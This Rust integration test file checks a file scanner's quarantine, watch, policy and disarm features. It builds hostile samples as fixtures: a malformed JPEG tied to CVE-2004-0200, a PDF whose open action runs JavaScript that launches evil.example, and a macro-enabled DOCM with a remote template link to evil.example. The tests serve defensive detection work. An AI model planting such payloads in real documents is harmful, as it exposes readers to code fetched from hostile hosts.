//! `haetae scan --on-vulnerable quarantine --report DIR`, `haetae quarantine
//! list|show|restore|purge|audit` and `haetae scan --watch`, run as a user would: the real
//! binary, a temporary data folder, a JPEG whose COM segment length is 1 (CVE-2004-0200)
//! built here.

use std::path::Path;
use std::process::{Command, Output};

const BAD_JPEG: &[u8] = b"\xff\xd8\xff\xfe\x00\x01\xff\xd9";

fn haetae(data: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_haetae"))
        .args(args)
        .env("HAETAE_DATA_DIR", data)
        .env_remove("HAETAE_QUARANTINE_KEY")
        .env_remove("HAETAE_CONFIG")
        .output()
        .expect("the haetae binary runs")
}

fn text(o: &Output) -> String {
    format!(
        "status {:?}\nstdout:\n{}\nstderr:\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

#[test]
fn a_vulnerable_file_is_quarantined_reported_restored_byte_exact_and_purged() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let inbox = tmp.path().join("in");
    let reports = tmp.path().join("reports");
    std::fs::create_dir_all(&inbox).unwrap();
    let bad = inbox.join("photo.jpg");
    std::fs::write(&bad, BAD_JPEG).unwrap();
    std::fs::write(inbox.join("note.txt"), "hello\n").unwrap();

    let o = haetae(
        &data,
        &[
            "scan",
            "--on-vulnerable",
            "quarantine",
            "--source",
            "usb",
            "--report",
            reports.to_str().unwrap(),
            inbox.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(!bad.exists(), "the vulnerable file left its folder");
    assert!(inbox.join("note.txt").exists(), "the clean file stays");
    // The key file is the owner's only.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(data.join("quarantine.key"))
            .unwrap()
            .permissions()
            .mode();
        assert_eq!(mode & 0o077, 0, "key file mode {mode:o}");
    }
    // One report pair, naming the CVE; none for the clean file.
    let names: Vec<String> = std::fs::read_dir(&reports)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    let html = names.iter().find(|n| n.ends_with(".html")).unwrap();
    let page = std::fs::read_to_string(reports.join(html)).unwrap();
    assert!(page.contains("CVE-2004-0200") && page.contains("quarantine"));

    let o = haetae(&data, &["quarantine", "list", "--json"]);
    assert!(o.status.success(), "{}", text(&o));
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1);
    let id = lines[0]["id"].as_str().unwrap().to_owned();
    assert_eq!(lines[0]["state"], "quarantined");
    assert_eq!(lines[0]["meta"]["source"], "usb");
    assert_eq!(lines[0]["meta"]["verdict"], "vulnerable");

    let o = haetae(&data, &["quarantine", "show", &id]);
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("JPEG-COM-LENGTH"),
        "{}",
        text(&o)
    );

    // Restore never writes over an existing file.
    std::fs::write(&bad, b"a new file with the old name").unwrap();
    let o = haetae(&data, &["quarantine", "restore", &id]);
    assert!(!o.status.success(), "{}", text(&o));
    assert!(String::from_utf8_lossy(&o.stderr).contains("exists"));
    std::fs::remove_file(&bad).unwrap();
    let o = haetae(&data, &["quarantine", "restore", &id]);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(std::fs::read(&bad).unwrap(), BAD_JPEG, "byte-exact");

    // Quarantine it again, then purge: the content is gone, the entry and audit stay.
    let o = haetae(
        &data,
        &[
            "scan",
            "--on-vulnerable",
            "quarantine",
            bad.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let o = haetae(&data, &["quarantine", "list", "--json"]);
    let second: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .filter(|v: &serde_json::Value| v["state"] == "quarantined")
        .collect();
    assert_eq!(second.len(), 1, "{}", text(&o));
    let id2 = second[0]["id"].as_str().unwrap().to_owned();
    let o = haetae(&data, &["quarantine", "purge", &id2]);
    assert!(o.status.success(), "{}", text(&o));
    let o = haetae(&data, &["quarantine", "restore", &id2]);
    assert!(!o.status.success(), "a purged entry cannot be restored");
    let o = haetae(&data, &["quarantine", "audit"]);
    let audit = String::from_utf8_lossy(&o.stdout).into_owned();
    for action in ["quarantine", "restore", "purge"] {
        assert!(audit.contains(action), "{action} missing from\n{audit}");
    }
}

#[test]
fn without_its_key_the_quarantine_is_not_opened_and_bad_flags_are_named() {
    let tmp = tempfile::tempdir().unwrap();
    let o = haetae(tmp.path(), &["quarantine", "list"]);
    assert!(!o.status.success());
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("HAETAE_QUARANTINE_KEY"),
        "{}",
        text(&o)
    );
    let o = haetae(
        tmp.path(),
        &[
            "scan",
            "--source",
            "Not A Source",
            tmp.path().to_str().unwrap(),
        ],
    );
    assert!(!o.status.success());
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("--source"),
        "{}",
        text(&o)
    );
}

/// Reads the JSON lines a watching `haetae scan` prints, in the background.
struct Watching {
    child: std::process::Child,
    lines: std::sync::mpsc::Receiver<serde_json::Value>,
}

impl Watching {
    fn start(data: &Path, folder: &Path) -> Watching {
        use std::io::BufRead;
        let mut child = Command::new(env!("CARGO_BIN_EXE_haetae"))
            .args(["scan", "--watch", "--json", folder.to_str().unwrap()])
            .env("HAETAE_DATA_DIR", data)
            .env_remove("HAETAE_CONFIG")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let stdout = child.stdout.take().unwrap();
        let (tx, lines) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            for line in std::io::BufReader::new(stdout).lines() {
                let Ok(line) = line else { break };
                if let Ok(v) = serde_json::from_str(&line) {
                    let _ = tx.send(v);
                }
            }
        });
        // Ready once it says so on stderr.
        let mut stderr = std::io::BufReader::new(child.stderr.take().unwrap());
        let mut first = String::new();
        stderr.read_line(&mut first).unwrap();
        assert!(first.contains("watching"), "{first}");
        std::thread::spawn(move || std::io::copy(&mut stderr, &mut std::io::sink()));
        Watching { child, lines }
    }

    fn next(&self, within: std::time::Duration) -> Option<serde_json::Value> {
        self.lines.recv_timeout(within).ok()
    }
}

impl Drop for Watching {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

#[test]
fn watch_mode_scans_a_finished_file_within_two_seconds_and_never_a_half_written_one() {
    use std::io::Write;
    use std::time::{Duration, Instant};
    let tmp = tempfile::tempdir().unwrap();
    let folder = tmp.path().join("downloads");
    std::fs::create_dir_all(&folder).unwrap();
    let w = Watching::start(&tmp.path().join("data"), &folder);

    // A file written in one go.
    let t0 = Instant::now();
    std::fs::write(folder.join("photo.jpg"), BAD_JPEG).unwrap();
    let r = w.next(Duration::from_secs(2)).expect("scanned within 2 s");
    assert!(t0.elapsed() < Duration::from_secs(2));
    assert!(r["path"].as_str().unwrap().ends_with("photo.jpg"), "{r}");
    assert_eq!(r["verdict"], "vulnerable");

    // A file whose writer pauses half way: nothing until it is closed, then the whole file.
    let half = folder.join("slow.jpg");
    let mut f = std::fs::File::create(&half).unwrap();
    f.write_all(&BAD_JPEG[..4]).unwrap();
    f.flush().unwrap();
    assert!(
        w.next(Duration::from_secs(3)).is_none(),
        "a half-written file was scanned"
    );
    f.write_all(&BAD_JPEG[4..]).unwrap();
    drop(f);
    let r = w.next(Duration::from_secs(2)).expect("scanned once closed");
    assert!(r["path"].as_str().unwrap().ends_with("slow.jpg"), "{r}");
    assert_eq!(r["size"], BAD_JPEG.len());

    // Moved in whole (rename), from outside the folder.
    let outside = tmp.path().join("elsewhere.txt");
    std::fs::write(&outside, "plain text\n").unwrap();
    std::fs::rename(&outside, folder.join("moved.txt")).unwrap();
    let r = w
        .next(Duration::from_secs(2))
        .expect("scanned once moved in");
    assert!(r["path"].as_str().unwrap().ends_with("moved.txt"), "{r}");
    assert_eq!(r["verdict"], "clean");
    // Nothing is scanned twice for one version.
    assert!(w.next(Duration::from_millis(700)).is_none());
}

#[test]
fn an_action_policy_acts_by_finding_code_over_the_verdict_and_a_bad_one_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let bad = tmp.path().join("photo.jpg");
    std::fs::write(&bad, BAD_JPEG).unwrap();
    let policy = tmp.path().join("policy.toml");
    std::fs::write(
        &policy,
        "[verdicts]\nvulnerable = \"log\"\n[codes]\nJPEG-COM-LENGTH = \"delete\"\n",
    )
    .unwrap();
    let o = haetae(
        &data,
        &[
            "scan",
            "--policy",
            policy.to_str().unwrap(),
            bad.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        !bad.exists(),
        "the code's action (delete) beat the verdict's (log)"
    );
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("delete"),
        "{}",
        text(&o)
    );

    // A flag overrides the policy's verdict action, not its codes.
    std::fs::write(&bad, BAD_JPEG).unwrap();
    std::fs::write(&policy, "[verdicts]\nvulnerable = \"delete\"\n").unwrap();
    let o = haetae(
        &data,
        &[
            "scan",
            "--policy",
            policy.to_str().unwrap(),
            "--on-vulnerable",
            "log",
            bad.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(bad.exists(), "--on-vulnerable log overrides the policy");

    std::fs::write(&policy, "[verdicts]\nvulnerable = \"shred\"\n").unwrap();
    let o = haetae(
        &data,
        &[
            "scan",
            "--policy",
            policy.to_str().unwrap(),
            bad.to_str().unwrap(),
        ],
    );
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(!o.status.success());
    assert!(
        err.contains("policy.toml") && err.contains("shred"),
        "{}",
        text(&o)
    );
    assert!(bad.exists());
}

/// A ZIP of (name, text) parts, stored (no compression), for the disarm test's DOCM.
fn stored_zip(parts: &[(&str, &str)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for (name, text) in parts {
        let crc = {
            // CRC-32 (IEEE), bitwise: small inputs only.
            let mut c = 0xFFFF_FFFFu32;
            for b in text.bytes() {
                c ^= u32::from(b);
                for _ in 0..8 {
                    c = if c & 1 == 1 {
                        (c >> 1) ^ 0xEDB8_8320
                    } else {
                        c >> 1
                    };
                }
            }
            !c
        };
        let len = u32::try_from(text.len()).unwrap();
        let name_len = u16::try_from(name.len()).unwrap();
        let offset = u32::try_from(out.len()).unwrap();
        let fields = |buf: &mut Vec<u8>| {
            buf.extend(20u16.to_le_bytes());
            buf.extend(0u16.to_le_bytes());
            buf.extend(0u16.to_le_bytes());
            buf.extend(0u32.to_le_bytes());
            buf.extend(crc.to_le_bytes());
            buf.extend(len.to_le_bytes());
            buf.extend(len.to_le_bytes());
            buf.extend(name_len.to_le_bytes());
            buf.extend(0u16.to_le_bytes());
        };
        out.extend(0x0403_4b50u32.to_le_bytes());
        fields(&mut out);
        out.extend(name.as_bytes());
        out.extend(text.as_bytes());
        central.extend(0x0201_4b50u32.to_le_bytes());
        central.extend(20u16.to_le_bytes());
        fields(&mut central);
        central.extend([0u8; 10]); // comment, disk, internal and external attributes
        central.extend(offset.to_le_bytes());
        central.extend(name.as_bytes());
    }
    let cd_offset = u32::try_from(out.len()).unwrap();
    let cd_len = u32::try_from(central.len()).unwrap();
    let n = u16::try_from(parts.len()).unwrap();
    out.extend(central);
    out.extend(0x0605_4b50u32.to_le_bytes());
    out.extend([0u8; 4]);
    out.extend(n.to_le_bytes());
    out.extend(n.to_le_bytes());
    out.extend(cd_len.to_le_bytes());
    out.extend(cd_offset.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out
}

/// A one-page PDF that runs JavaScript when opened (an open action and a document-level
/// script in the name tree), with a correct cross-reference table.
fn javascript_pdf() -> Vec<u8> {
    let content = b"BT /F1 12 Tf 72 720 Td (Invoice 42) Tj ET";
    let objects: Vec<Vec<u8>> = vec![
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\)) >> /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> >>".to_vec(),
        [
            format!("<< /Length {} >>\nstream\n", content.len()).as_bytes(),
            content,
            b"\nendstream",
        ]
        .concat(),
        b"<< /S /JavaScript /JS (this.exportDataObject\\({cName: 'a'}\\)) >>".to_vec(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_vec(),
    ];
    let mut out = b"%PDF-1.7\n".to_vec();
    let mut offsets = Vec::new();
    for (i, body) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend_from_slice(format!("{} 0 obj\n", i + 1).as_bytes());
        out.extend_from_slice(body);
        out.extend_from_slice(b"\nendobj\n");
    }
    let xref = out.len();
    out.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f\r\n", objects.len() + 1).as_bytes(),
    );
    for off in offsets {
        out.extend_from_slice(format!("{off:010} 00000 n\r\n").as_bytes());
    }
    out.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    out
}

#[test]
fn disarm_rebuilds_a_pdf_without_its_javascript_and_the_copy_scans_clean() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let inbox = tmp.path().join("in");
    let safe = tmp.path().join("safe");
    std::fs::create_dir_all(&inbox).unwrap();
    std::fs::write(inbox.join("invoice.pdf"), javascript_pdf()).unwrap();
    let o = haetae(
        &data,
        &[
            "scan",
            "--json",
            inbox.join("invoice.pdf").to_str().unwrap(),
        ],
    );
    let line: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    assert_ne!(line["verdict"], "clean", "{line}");

    let o = haetae(
        &data,
        &[
            "scan",
            "--json",
            "--disarm",
            safe.to_str().unwrap(),
            inbox.to_str().unwrap(),
        ],
    );
    assert!(safe.join("invoice.pdf").exists(), "{}", text(&o));
    let sidecar: serde_json::Value =
        serde_json::from_slice(&std::fs::read(safe.join("invoice.pdf.disarm.json")).unwrap())
            .unwrap();
    let removed = sidecar["removed"].to_string();
    for what in [
        "PDF /OpenAction (JavaScript action)",
        "PDF /JavaScript",
        "PDF action object",
    ] {
        assert!(removed.contains(what), "{what} not in {removed}");
    }
    let copy = std::fs::read(safe.join("invoice.pdf")).unwrap();
    let copy_text = String::from_utf8_lossy(&copy);
    assert!(
        !copy_text.contains("JavaScript") && !copy_text.contains("evil"),
        "{copy_text}"
    );
    assert!(copy_text.contains("/BaseFont /Helvetica"), "{copy_text}");
    let o = haetae(
        &data,
        &["scan", "--json", safe.join("invoice.pdf").to_str().unwrap()],
    );
    let line: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    assert_eq!(line["verdict"], "clean", "{line}");
}

#[test]
fn disarm_writes_macro_free_copies_with_sidecars_and_the_copies_scan_clean() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let inbox = tmp.path().join("in");
    let safe = tmp.path().join("safe");
    std::fs::create_dir_all(&inbox).unwrap();
    let docm = stored_zip(&[
        (
            "[Content_Types].xml",
            r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>"#,
        ),
        (
            "_rels/.rels",
            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#,
        ),
        (
            "word/document.xml",
            r#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>hello</w:t></w:r></w:p></w:body></w:document>"#,
        ),
        (
            "word/_rels/document.xml.rels",
            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
        ),
        ("word/vbaProject.bin", "macro bytes"),
    ]);
    std::fs::write(inbox.join("report.docm"), &docm).unwrap();
    std::fs::write(inbox.join("photo.jpg"), BAD_JPEG).unwrap();

    let o = haetae(
        &data,
        &[
            "scan",
            "--json",
            "--disarm",
            safe.to_str().unwrap(),
            inbox.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let sidecar: serde_json::Value =
        serde_json::from_slice(&std::fs::read(safe.join("report.docm.disarm.json")).unwrap())
            .unwrap();
    let removed = sidecar["removed"].to_string();
    for what in ["macro project", "external relationship"] {
        assert!(removed.contains(what), "{what} not in {removed}");
    }
    // The JPEG whose COM length is 1 cannot be rebuilt: conversion as a test, no copy.
    let jpeg: serde_json::Value =
        serde_json::from_slice(&std::fs::read(safe.join("photo.jpg.disarm.json")).unwrap())
            .unwrap();
    assert_eq!(
        jpeg["failures"][0]["code"], "CONVERT-JPEG-SEGMENT",
        "{jpeg}"
    );
    assert!(!safe.join("photo.jpg").exists());

    // The copy scans clean.
    let o = haetae(
        &data,
        &["scan", "--json", safe.join("report.docm").to_str().unwrap()],
    );
    let line: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    assert_eq!(line["verdict"], "clean", "{line}");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
}

#[test]
fn the_disarm_action_replaces_a_macro_document_by_its_clean_copy_and_keeps_the_original() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let doc = tmp.path().join("invoice.docm");
    let original = stored_zip(&[
        (
            "[Content_Types].xml",
            r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#,
        ),
        (
            "word/document.xml",
            r#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>"#,
        ),
        ("word/vbaProject.bin", "macro bytes"),
    ]);
    std::fs::write(&doc, &original).unwrap();
    let o = haetae(
        &data,
        &["scan", "--on-suspicious", "disarm", doc.to_str().unwrap()],
    );
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("replaced by its rebuilt copy"),
        "{}",
        text(&o)
    );
    let copy = std::fs::read(&doc).unwrap();
    assert_ne!(copy, original);
    let o = haetae(&data, &["scan", doc.to_str().unwrap()]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "the copy in place scans clean: {}",
        text(&o)
    );
    // The original is in the quarantine, restorable byte for byte.
    let o = haetae(&data, &["quarantine", "list", "--json"]);
    let entry: serde_json::Value =
        serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().next().unwrap()).unwrap();
    let back = tmp.path().join("original.docm");
    let o = haetae(
        &data,
        &[
            "quarantine",
            "restore",
            entry["id"].as_str().unwrap(),
            "--to",
            back.to_str().unwrap(),
        ],
    );
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(std::fs::read(&back).unwrap(), original);
}

/// A version-3 compound file with `FileHeader` and `BodyText/Section0` (both in the mini
/// stream, under 4096 bytes): the smallest HWP 5.0 document, uncompressed.
fn small_hwp(paragraph: &str) -> Vec<u8> {
    const END: u32 = 0xFFFF_FFFE;
    const FREE: u32 = 0xFFFF_FFFF;
    let mut header = vec![0u8; 256];
    header[..17].copy_from_slice(b"HWP Document File");
    header[32..36].copy_from_slice(&0x0500_0006u32.to_le_bytes());
    // PARA_HEADER (66) then PARA_TEXT (67): the text and the paragraph end (13).
    let mut section = (66u32 | (22 << 20)).to_le_bytes().to_vec();
    section.extend_from_slice(&[0; 22]);
    let units: Vec<u8> = paragraph
        .encode_utf16()
        .chain([13])
        .flat_map(u16::to_le_bytes)
        .collect();
    let len = u32::try_from(units.len()).unwrap();
    section.extend_from_slice(&(67u32 | (1 << 10) | (len << 20)).to_le_bytes());
    section.extend_from_slice(&units);
    // The mini stream: FileHeader at mini sector 0 (4 sectors), Section0 after it.
    let mut mini = header.clone();
    let section_start = u32::try_from(mini.len() / 64).unwrap();
    mini.extend_from_slice(&section);
    mini.resize(mini.len().div_ceil(64) * 64, 0);
    let mini_sectors = u32::try_from(mini.len() / 64).unwrap();
    let mut minifat: Vec<u32> = (1..=mini_sectors).collect();
    minifat[3] = END;
    *minifat.last_mut().unwrap() = END;
    let mut minifat_bytes: Vec<u8> = minifat.iter().flat_map(|v| v.to_le_bytes()).collect();
    minifat_bytes.resize(512, 0xFF);
    // Sectors: 0 FAT, 1 directory, 2 miniFAT, 3.. the mini stream.
    let stream_sectors = u32::try_from(mini.len().div_ceil(512)).unwrap();
    let mut fat = vec![0xFFFF_FFFDu32, END, END];
    fat.extend((4..3 + stream_sectors).chain([END]));
    fat.resize(128, FREE);
    let entry = |name: &str, kind: u8, right: u32, child: u32, start: u32, size: usize| {
        let mut e = vec![0u8; 128];
        let units: Vec<u16> = name.encode_utf16().chain([0]).collect();
        for (i, u) in units.iter().enumerate() {
            e[2 * i..2 * i + 2].copy_from_slice(&u.to_le_bytes());
        }
        e[64..66].copy_from_slice(&u16::try_from(units.len() * 2).unwrap().to_le_bytes());
        e[66] = kind;
        e[67] = 1;
        e[68..72].copy_from_slice(&FREE.to_le_bytes());
        e[72..76].copy_from_slice(&right.to_le_bytes());
        e[76..80].copy_from_slice(&child.to_le_bytes());
        e[116..120].copy_from_slice(&start.to_le_bytes());
        e[120..128].copy_from_slice(&(size as u64).to_le_bytes());
        e
    };
    let mut dir = entry("Root Entry", 5, FREE, 2, 3, mini.len());
    dir.extend(entry("FileHeader", 2, FREE, FREE, 0, header.len()));
    dir.extend(entry("BodyText", 1, 1, 3, 0, 0));
    dir.extend(entry(
        "Section0",
        2,
        FREE,
        FREE,
        section_start,
        section.len(),
    ));
    let mut out = vec![0u8; 512];
    out[..8].copy_from_slice(&[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1]);
    out[24..26].copy_from_slice(&0x3Eu16.to_le_bytes());
    out[26..28].copy_from_slice(&3u16.to_le_bytes());
    out[28..30].copy_from_slice(&0xFFFEu16.to_le_bytes());
    out[30..32].copy_from_slice(&9u16.to_le_bytes());
    out[32..34].copy_from_slice(&6u16.to_le_bytes());
    out[44..48].copy_from_slice(&1u32.to_le_bytes());
    out[48..52].copy_from_slice(&1u32.to_le_bytes());
    out[56..60].copy_from_slice(&4096u32.to_le_bytes());
    out[60..64].copy_from_slice(&2u32.to_le_bytes());
    out[64..68].copy_from_slice(&1u32.to_le_bytes());
    out[68..72].copy_from_slice(&END.to_le_bytes());
    for i in 0..109 {
        out[76 + 4 * i..80 + 4 * i].copy_from_slice(&FREE.to_le_bytes());
    }
    out[76..80].copy_from_slice(&0u32.to_le_bytes());
    out.extend(fat.iter().flat_map(|v| v.to_le_bytes()));
    out.extend(dir);
    out.extend(minifat_bytes);
    out.extend(&mini);
    out.resize(512 + (3 + stream_sectors as usize) * 512, 0);
    out
}

#[test]
fn disarm_writes_an_hwp_as_a_txt_rendition_and_says_so() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let doc = tmp.path().join("송금.hwp");
    std::fs::write(&doc, small_hwp("송금 확인서 123")).unwrap();
    let safe = tmp.path().join("safe");
    let o = haetae(
        &data,
        &[
            "scan",
            "--disarm",
            safe.to_str().unwrap(),
            doc.to_str().unwrap(),
        ],
    );
    // The original is suspicious (this minimal file has no DocInfo stream); its conversion
    // does not fail.
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    assert!(!text(&o).contains("conversion failed"), "{}", text(&o));
    let copy = safe.join("송금.hwp.txt");
    assert_eq!(std::fs::read_to_string(&copy).unwrap(), "송금 확인서 123\n");
    assert!(!safe.join("송금.hwp").exists());
    let sidecar: serde_json::Value =
        serde_json::from_slice(&std::fs::read(safe.join("송금.hwp.disarm.json")).unwrap()).unwrap();
    assert_eq!(sidecar["kind"], "text rendition", "{sidecar}");
    assert_eq!(sidecar["output"], copy.to_str().unwrap());
    assert!(
        sidecar["note"].as_str().unwrap().contains("not a rebuild"),
        "{sidecar}"
    );
    let o = haetae(&data, &["scan", copy.to_str().unwrap()]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "the rendition scans clean: {}",
        text(&o)
    );
    // The disarm action: the original into the quarantine, the rendition beside it as
    // NAME.txt (never under the .hwp name).
    let o = haetae(
        &data,
        &["scan", "--on-suspicious", "disarm", doc.to_str().unwrap()],
    );
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("replaced by its text rendition"),
        "{}",
        text(&o)
    );
    assert!(!doc.exists(), "the original left its place");
    let beside = tmp.path().join("송금.hwp.txt");
    assert_eq!(
        std::fs::read_to_string(&beside).unwrap(),
        "송금 확인서 123\n"
    );
}
